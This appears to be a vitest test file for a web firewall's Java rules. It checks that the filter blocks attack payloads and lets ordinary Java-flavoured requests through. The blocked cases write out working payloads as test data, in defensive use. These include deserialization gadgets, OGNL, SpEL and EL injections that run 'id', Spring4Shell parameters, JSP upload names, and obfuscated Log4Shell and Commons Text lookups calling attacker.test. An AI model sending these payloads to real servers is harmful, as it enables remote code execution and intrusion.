/**
 * Java attacks in the security filter (`src/lib/waf/java.ts`, `log4shell.ts`): serialized
 * objects (raw, hex, base64, gzip'd base64), runtime/process/gadget classes, whole-value class
 * names, OGNL/SpEL/EL expressions, Spring4Shell, JSP uploads and Log4Shell lookups, in the
 * different parts of a request; and the Java-flavoured ordinary traffic that must pass.
 */
import { describe, expect, it } from "vitest";
import { evaluate, security } from "./waf-requests.ts";

const query = (value: string, name = "data") =>
  evaluate({ url: `https://edge.test/v1/items?${name}=${encodeURIComponent(value)}` });
const json = (body: unknown) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/items",
    headers: { "content-type": "application/json" },
    body: JSON.stringify(body),
  });
const form = (body: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/items",
    headers: { "content-type": "application/x-www-form-urlencoded" },
    body,
  });
const header = (name: string, value: string) => evaluate({ headers: { [name]: value } });
const xml = (body: string) =>
  evaluate({
    method: "POST",
    url: "https://edge.test/v1/import",
    headers: { "content-type": "application/xml" },
    body,
  });

/** `java.util.HashSet` serialized (`AC ED 00 05 73 72 …`), gzip'd, base64: a JSF ViewState / remember-me shape. */
const GZIP_SERIALIZED = "H4sIAAAAAAAAA1vzloG1uIhBMCuxLFGvtCQzR88jsTgjOLUEAKYHtKYZAAAA=";
/** An ordinary JSON document, gzip'd, base64. */
const GZIP_JSON = "H4sIAAAAAAAAA6tWykjNyclXslIqzy/KSdFRKMnILFbILFZIVCjISczMU8gqzs9TSMlPLs1NzStRqgUA20pXKzAAAAA=";

describe("java: attacks are blocked", () => {
  it.each<[string, () => ReturnType<typeof evaluate>]>([
    // Serialized objects
    [
      "base64 serialized object in a cookie",
      () => header("cookie", "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"),
    ],
    ["hex serialized object in a form field", () => form("blob=aced00057372001d6f72672e6170616368652e636f6d6d6f6e73")],
    ["gzip'd base64 serialized object in a cookie", () => header("cookie", `viewstate=${GZIP_SERIALIZED}`)],
    ["percent-encoded magic bytes", () => query("%AC%ED%00%05sr%00%11java.util.HashSet")],
    // Classes and gadgets
    ["Runtime.exec call", () => json({ expr: 'Runtime.getRuntime().exec(new String[]{"/bin/sh","-c","id"})' })],
    ["new ProcessBuilder", () => form("q=new+ProcessBuilder(%22bash%22,%22-c%22,%22id%22).start()")],
    ["java.Runtime in a header", () => header("x-test", "java.Runtime")],
    ["commons-collections functor next to ProcessBuilder", () => json({ a: "ProcessBuilder.evil.forclosure" })],
    ["InvokerTransformer anywhere", () => query("org.apache.commons.collections.functors.InvokerTransformer")],
    ["whole-value JDK class in a form field", () => form("type=java.io.FileOutputStream")],
    ["whole-value class as a JSON key", () => json({ "java.lang.Class": "x" })],
    ["whole-value package as a cookie name", () => header("cookie", "org.omg.CORBA=1")],
    ["class name as XML text", () => xml('<?xml version="1.0"?><r><e a="v">java.lang.ProcessBuilder</e></r>')],
    [
      "XStream dynamic proxy",
      () =>
        xml(
          '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"/></handler></dynamic-proxy></sorted-set>',
        ),
    ],
    [
      "fastjson @type gadget",
      () =>
        json({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://attacker.test/x", autoCommit: true }),
    ],
    [
      "Jackson array gadget",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/v1/import",
          headers: { "content-type": "application/json" },
          body: '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]',
        }),
    ],
    [
      "SnakeYAML global tag",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/v1/import",
          headers: { "content-type": "text/plain" },
          body: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.test/"]]]]',
        }),
    ],
    // Expressions
    [
      "Struts OGNL in Content-Type",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/upload.action",
          headers: {
            "content-type": "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
          },
          body: "",
        }),
    ],
    [
      "Confluence OGNL in the path",
      () =>
        evaluate({
          url: "https://edge.test/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
        }),
    ],
    [
      "SpEL T() in a header",
      () => header("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("id")'),
    ],
    ["EL reflection", () => query("${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}")],
    ["EL class root", () => query("${class.getClassLoader()}")],
    ["Velocity reflection", () => form("tpl=%23set(%24x%3D%24e.getClass().forName(%22java.lang.Runtime%22))")],
    ["Thymeleaf preprocessing", () => query('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "lang")],
    // Spring4Shell / class loader
    [
      "Spring4Shell parameter",
      () => form("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    ],
    ["class loader through brackets", () => query("class['classLoader'].resources.dirContext.docBase=/tmp")],
    // JSP uploads
    [
      "JSP upload in a multipart file name",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/upload",
          headers: { "content-type": "multipart/form-data; boundary=XyZ" },
          body: '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="shell. jspx"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n',
        }),
    ],
    ["JSP upload in X-Filename", () => header("x-filename", "cmd.jsp.")],
    // Log4Shell
    ["plain JNDI lookup in the User-Agent", () => header("user-agent", "${jndi:ldap://attacker.test/a}")],
    [
      "nested lower/upper lookups",
      () => header("x-api-version", "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}mi://attacker.test/a}"),
    ],
    ["empty-name defaults", () => query("${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://attacker.test/a}")],
    [
      "env defaults",
      () => header("referer", "https://edge.test/?x=${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.test/a}"),
    ],
    ["base64 lookup", () => query(`\${\${base64:${btoa("${jndi:ldap://attacker.test/a}")}}}`)],
    [
      "HTML entities with leading zeros",
      () => header("user-agent", "&#x24;&#0000000000000000000000000000000123;jndi:ldap://attacker.test/a}"),
    ],
    ["letter smuggling without jndi", () => query("${${::-${::-$${::-j}}}}")],
    // Apache Commons Text's interpolator (CVE-2022-42889), as log4j-scan sends it.
    ["a Commons Text url lookup", () => query("${url:UTF-8::https://attacker.test/a}")],
    ["a Commons Text dns lookup in the User-Agent", () => header("user-agent", "${dns:address|attacker.test}")],
    ["a Commons Text file lookup", () => query("${file:UTF-8:/etc/hostname}")],
    // A Referer is read in parts (path, query); a lookup where its host should be is read too.
    ["a lookup as the Referer's host", () => header("referer", "https://${jndi:ldap://attacker.test/a}")],
    ["a Commons Text lookup as the Referer's host", () => header("referer", "https://${dns:address|attacker.test}")],
  ])("%s", (_name, run) => {
    expect(run().action).toBe("block");
  });
});

describe("java: ordinary traffic passes", () => {
  it.each<[string, () => ReturnType<typeof evaluate>]>([
    ["a search for a Java class", () => query("java.lang.String", "q")],
    ["prose about the Java runtime", () => query("How do I install the Java Runtime Environment 21 on Ubuntu?", "q")],
    [
      "an exception name in an error report",
      () =>
        json({ error: "java.lang.RuntimeException: Failed to start bean", type: "java.lang.IllegalStateException" }),
    ],
    [
      "a stack trace",
      () =>
        json({
          trace:
            'Exception in thread "main" java.lang.NullPointerException\n\tat java.lang.reflect.Method.invoke(Method.java:498)\n\tat java.lang.Thread.run(Thread.java:748)',
        }),
    ],
    [
      "a JDBC snippet",
      () =>
        json({ code: 'Class.forName("com.mysql.cj.jdbc.Driver");\nConnection c = DriverManager.getConnection(url);' }),
    ],
    [
      "Maven coordinates",
      () => json({ groupId: "org.apache.commons", artifact: "org.apache.commons:commons-lang3:3.14.0" }),
    ],
    ["Android package names", () => form("app=com.example.myapp&pkg=com.google.android.gm")],
    ["a Spring logger setting", () => form("logging.level.org.springframework.web=DEBUG")],
    ["JSF parameter names", () => form("javax.faces.ViewState=-123%3A456&javax.faces.source=form%3Abtn")],
    ["java.net as a host name", () => query("java.net", "site")],
    ["JSON-LD types", () => json({ "@context": "https://schema.org", "@type": "Organization", name: "Acme" })],
    [
      "template placeholders",
      () => json({ subject: "Hello ${user.name}, order #{order.id} shipped", helm: "{{ .Values.image.tag }}" }),
    ],
    ["shell defaults", () => json({ script: "export DB=${POSTGRES_PASSWORD:-secret}\nexport A=${B:-${C:-d}}" })],
    ["Spring placeholders", () => form("server.port=%24%7BPORT%3A8080%7D")],
    ["a Referer with a port", () => header("referer", "https://app.example.com:8443/notes?x=1")],
    ["a Referer with a user", () => header("referer", "https://sam@intranet.example/wiki/Start")],
    ["a Referer with an IP literal", () => header("referer", "http://[2001:db8::1]:8080/")],
    ["a Referer with an international host", () => header("referer", "https://bücher.example/suche?q=krimi")],
    // Found by a review: a Referer read whole searched for SQL; Spring and compose placeholders
    // named URL with a JDBC default; a shell substring of a variable named file.
    [
      "a Referer with an international host and a search for SQL",
      () => header("referer", "https://bücher.example/search?q=sql+union+select+example&hl=de"),
    ],
    [
      "URL placeholders with JDBC defaults, a shell substring",
      () =>
        json({
          spring: "spring.datasource.url=${url:jdbc:h2:mem:testdb}",
          compose: "DB=${URL:-jdbc:postgresql://postgres:5432/app}",
          shell: 'echo "${file:i:n}"',
        }),
    ],
    [
      "placeholders named url, file and dns",
      () => json({ tpl: "Open ${url} from ${file.encoding} and ${dns.server}" }),
    ],
    ["an ordinary gzip'd base64 value", () => header("cookie", `state=${GZIP_JSON}`)],
    ["a foreclosure misspelling", () => query("forclosure homes for sale runtime 2 hours", "q")],
    ["a JSP file name in prose", () => query("index.jsp vs servlet", "q")],
    [
      "a PDF upload",
      () =>
        evaluate({
          method: "POST",
          url: "https://edge.test/upload",
          headers: { "content-type": "multipart/form-data; boundary=XyZ" },
          body: '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="report.jsp.pdf"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n',
        }),
    ],
    ["Java user agents", () => header("user-agent", "Apache-HttpClient/4.5.14 (Java/17.0.10)")],
    ["Postman", () => header("user-agent", "PostmanRuntime/7.37.3")],
    ["an e-mail address", () => form("email=jane.doe%40company.org")],
  ])("%s", (_name, run) => {
    expect(run().action).toBe("allow");
  });

  it("a whole-value class name in a search box counts only at paranoia level 2", () => {
    const url = `https://edge.test/search?q=${encodeURIComponent("java.io.FileInputStream")}`;
    expect(evaluate({ url }).action).toBe("allow");
    expect(evaluate({ url }, security({ paranoiaLevel: 2 })).action).toBe("block");
  });
});
